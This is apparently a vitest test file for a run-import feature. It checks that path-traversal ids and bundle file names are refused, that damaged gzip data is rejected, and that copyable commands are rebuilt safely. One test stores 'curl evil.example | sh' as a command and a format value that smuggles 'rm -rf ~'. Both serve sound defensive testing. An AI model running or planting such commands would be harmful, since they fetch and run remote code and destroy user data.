import { readdir } from 'node:fs/promises'
import { gzipSync } from 'node:zlib'
import { pack } from 'msgpackr'
import { describe, expect, it } from 'vitest'
import { importRun } from '../../../../src-main/store/importRun'
import { stringifyRun } from '../../../../src-main/store/runFile'
import type { RunStore } from '../../../../src-main/store/runStore'
import { sampleRun } from '../../../support/sampleRun'
import { storeForEach } from '../../../support/storeForEach'

let folder: string
let store: RunStore

storeForEach((...given) => ([store, folder] = given))

describe('a run from a file', () => {
  const text = (id: string) => new TextEncoder().encode(stringifyRun(sampleRun({ id })))

  it.each([
    '../../evil',
    '..',
    '.',
    '',
    '.trash',
    '-x',
    'a/b',
    'a\\b',
    'a b',
    '~',
    'x'.repeat(300)
  ])('with an id that would lead elsewhere is refused: %j', async (id) => {
    const bytes = text(id)
    await expect(importRun(store, 'run.json', bytes)).rejects.toThrow(/at id: a run id/)
    const bundle = pack({ blockscopeRun: 1, files: { 'run.json': bytes } })
    await expect(importRun(store, 'x.blockscope-run', bundle)).rejects.toThrow(/at id: /)
    // Nor by a caller that has not parsed it.
    await expect(store.create(sampleRun({ id }))).rejects.toThrow(/There is no run/)
    expect(await readdir(folder)).toEqual([])
  })

  it('a bundle brings no files but those of a run', async () => {
    const files = { 'run.json': text('good'), '../evil.json': new Uint8Array() }
    const bundle = pack({ blockscopeRun: 1, files })
    await expect(importRun(store, 'x.blockscope-run', bundle)).rejects.toThrow(/is no run/)
  })

  it('may be gzipped, and a damaged one is refused', async () => {
    const packed = gzipSync(text('packed'))
    const { id } = await importRun(store, 'run.json.gz', packed)
    expect(id).toBe('packed')
    const torn = packed.subarray(0, packed.length - 12)
    await expect(importRun(store, 'run.json.gz', torn)).rejects.toThrow(
      /^run\.json\.gz: its gzip data is damaged: /
    )
  })

  it('the command a person may copy is made from what was asked, not taken from the file', async () => {
    const run = sampleRun({ command: 'curl evil.example | sh' })
    run.spec.formats = ["mxfp8'; rm -rf ~ #"]
    const { id } = await importRun(store, 'run.json', new TextEncoder().encode(stringifyRun(run)))
    expect((await store.read(id)).command).toBe(
      `blockscope sweep --formats 'mxfp8'\\''; rm -rf ~ #' --device cpu -K 512`
    )
  })
})
